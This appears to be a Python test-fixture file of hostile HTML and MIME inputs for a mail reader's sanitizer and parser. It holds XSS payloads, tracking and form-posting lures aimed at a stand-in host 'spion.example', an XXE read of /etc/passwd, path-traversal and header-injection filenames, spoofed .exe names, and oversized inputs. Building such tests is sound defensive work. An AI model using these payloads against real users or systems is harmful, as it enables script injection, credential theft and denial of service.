"""Messages as strangers make them, to the reader's harm or by broken programs."""

import base64

SCRIPT = "<script>alert(1)</script>"
# Nothing that would run, load or send may come out of these.
HTML = {
    "script": f"<p>Hej</p>{SCRIPT}",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<p onclick=alert(1) onmouseover='alert(1)'>Hej</p>",
    "picture with handler": '<img src=x onerror="alert(1)">Hej',
    "picture from elsewhere": '<img src="https://spion.example/p.gif?id=7" width=1 height=1>Hej',
    "picture set": '<img srcset="https://spion.example/a 2x"><picture><source srcset=x>Hej',
    "style with url": "<style>body{background:url(https://spion.example/b)}</style>Hej",
    "style attribute": '<p style="background:url(//spion.example/b);position:fixed;top:0">Hej</p>',
    "import": "<style>@import 'https://spion.example/c.css';</style>Hej",
    "linked style": '<link rel=stylesheet href="https://spion.example/c.css">Hej',
    "prefetch": '<link rel="dns-prefetch" href="//spion.example">Hej',
    "refresh": '<meta http-equiv=refresh content="0;url=https://spion.example">Hej',
    "base": '<base href="https://spion.example/"><a href="login">Hej</a>',
    "form": '<form action="https://spion.example"><input name=password><button>Hej</button></form>',
    "frame": '<iframe src="https://spion.example"></iframe>Hej',
    "frame with document": f'<iframe srcdoc="{SCRIPT}"></iframe>Hej',
    "object": '<object data="https://spion.example/x.swf"><embed src=//spion.example></object>Hej',
    "svg": f"<svg onload=alert(1)>{SCRIPT}<a xlink:href='javascript:alert(1)'>x</a></svg>Hej",
    "mathml": "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></math>Hej",
    "javascript link": '<a href="javascript:alert(1)">Hej</a>',
    "javascript link in disguise": '<a href="java&#x09;script:alert(1)">Hej</a>',
    "data link": f'<a href="data:text/html,{SCRIPT}">Hej</a>',
    "other target": '<a href="https://bank.spion.example/">https://bank.example/</a>',
    "noscript": f'<noscript><p title="</noscript>{SCRIPT}">Hej</noscript>',
    "comment": f"<!--[if mso]>{SCRIPT}<![endif]--><!-->{SCRIPT}-->Hej",
    "open comment": f"Hej<!-- {SCRIPT}",
    "cdata": f"<![CDATA[{SCRIPT}]]>Hej",
    "processing": f"<?xml version='1.0'?><?php echo '{SCRIPT}' ?>Hej",
    "doctype with entities": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;Hej',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; Hej &#0;&#xD800;&#x110000;&nosuch;",
    "written out": "&lt;img src=x onerror=alert(1)&gt; Hej",
    "template": f"<template>{SCRIPT}</template>Hej",
    "textarea": f"<textarea></textarea>{SCRIPT}Hej",
    "nul in a tag": "<scr\0ipt>alert(1)</scr\0ipt>Hej",
    "other charset declared": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4- Hej',
    "nothing closed": "<div><p><b><i><a href='x'><table><tr><td>Hej",
    "deep": "<div>" * 40_000 + "Hej",
    "deep inline": "<b>" * 60_000 + "Hej",
    "deep lists": "<ul><li>" * 20_000 + "Hej",
    "many attributes": "<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">Hej",
    "many links": '<a href="x">' * 20_000 + "Hej",
    "long target": f'<a href="https://x.example/{"a" * 3_000}">Hej</a>',
    "picture in the tag": f'<img src="data:image/png;base64,{"A" * 2_000_000}">Hej',
}


def html_message(html: str, charset: str = "utf-8") -> bytes:
    """A message that is HTML and nothing else."""
    body = base64.encodebytes(html.encode(charset, "replace"))
    head = f"Content-Type: text/html; charset={charset}\nContent-Transfer-Encoding: base64\n\n"
    return (head.encode() + body).replace(b"\n", b"\r\n")


def nested(depth: int) -> bytes:
    """Multiparts within each other."""
    heads = (
        f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(depth)
    )
    return "".join(heads).encode() + b"\r\nHej\r\n"


MIXED = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"


def file_part(disposition: str, content: bytes = b"x", more: str = "") -> bytes:
    """A message with one file."""
    head = f"--b\r\nContent-Disposition: attachment; {disposition}\r\n{more}\r\n"
    return MIXED + head.encode() + content + b"\r\n--b--\r\n"


# Broken or hostile MIME. Each must be read, within bounds.
MIME = {
    "nothing": b"",
    "no headers": b"\r\nHej",
    "headers without end": b"Subject: Hej\r\n" * 50_000,
    "only line feeds": b"Subject: Hej\n\nHej\n",
    "no charset known": b"Content-Type: text/plain; charset=no-such\r\n\r\nHej \xe5\r\n",
    "wrong charset": b"Content-Type: text/plain; charset=utf-8\r\n\r\nHej p\xe5 dig\r\n",
    "charset that is none": b"Content-Type: text/plain; charset=base64\r\n\r\nHej\r\n",
    "charset of surrogates": b"Content-Type: text/plain; charset=utf-7\r\n\r\n+2AA- Hej\r\n",
    "utf-16": b"Content-Type: text/plain; charset=utf-16\r\n\r\n" + "Hej".encode("utf-16"),
    "no type": b"Content-Type: ;;;===\r\n\r\nHej\r\n",
    "no boundary": b"Content-Type: multipart/mixed\r\n\r\nHej\r\n",
    "no part": MIXED + b"Hej\r\n",
    "no end": MIXED + b"--b\r\n\r\nHej\r\n",
    "boundary within itself": MIXED + b"--b\r\n" + MIXED + b"--b\r\n\r\nHej\r\n--b--\r\n",
    "longer boundary": MIXED + b"--b\r\n\r\n--bb\r\nHej\r\n--b--\r\n",
    "nested": nested(9),
    "nested too deep": nested(5_000),
    "messages in messages": b"Content-Type: message/rfc822\r\n\r\n" * 5_000 + b"A: x\r\n\r\nHej",
    "many parts": MIXED + b"--b\r\n\r\n" * 500_000,
    "many delimiters that are none": MIXED + b"--bx\r\n" * 500_000,
    "broken base64": b"Content-Transfer-Encoding: base64\r\n\r\nSGVq*=====SGVq=\xff\r\n",
    "unknown encoding": b"Content-Transfer-Encoding: x-evil\r\n\r\nHej\r\n",
    "broken quoted-printable": b"Content-Transfer-Encoding: quoted-printable\r\n\r\nHej =ZZ=\r\n=",
    "nul and control": b"Subject: a\0b\x1b[31m\r\n\r\nHej \0\x1b[2J\x07\r\n",
    "turned around": "Subject: cod\u202egpj.exe\r\n\r\nHej \u202egpj.exe \u2066x\r\n".encode(),
    "name turned around": file_part('filename="r\u202efdp.exe"'),
    "name with a path": file_part('filename="../../etc/passwd"'),
    "name with line ends": file_part("filename*=utf-8''a%0d%0aX-Evil:%201"),
    "name without end": file_part('filename="' + "a" * 100_000),
    "one line of 20 MB": b"Subject: Hej\r\n\r\n" + b"a" * 20_000_000,
    "20 MB deep down": nested(9) + b"Hej hej hej\r\n" * 1_600_000,
    "20 MB of carriage returns": b"Subject: Hej\r\n\r\n" + b"\r" * 20_000_000,
    "a file of 20 MB": file_part(
        "filename=a.pdf", b"QUJD" * 5_000_000, "Content-Transfer-Encoding: base64\r\n"
    ),
}
